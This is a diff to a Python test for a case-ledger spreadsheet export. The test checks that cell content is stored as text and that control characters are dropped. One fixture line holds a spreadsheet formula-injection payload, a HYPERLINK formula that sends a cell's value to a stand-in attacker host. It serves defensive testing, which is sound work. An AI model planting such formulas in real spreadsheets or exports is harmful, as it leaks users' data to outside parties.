@@ -62,7 +62,9 @@ def test_handlers_see_the_submitters_name_masked(client, login_as, world, make_c
 def test_the_ledger_stores_formulas_as_text_and_drops_control_characters(
         client, world, make_case):
     make_case(content='=HYPERLINK("http://evil.example/?x="&A1,"点击")')
-    make_case(content="企业反映\x01的问题说明内容")
+    legacy = make_case()  # rows from before intake refused control characters
+    legacy.content = "企业反映\x01的问题说明内容"
+    db.session.commit()
     login(client, "dispatcher")
     response = client.get("/figures/ledger.xlsx")
     assert response.status_code == 200
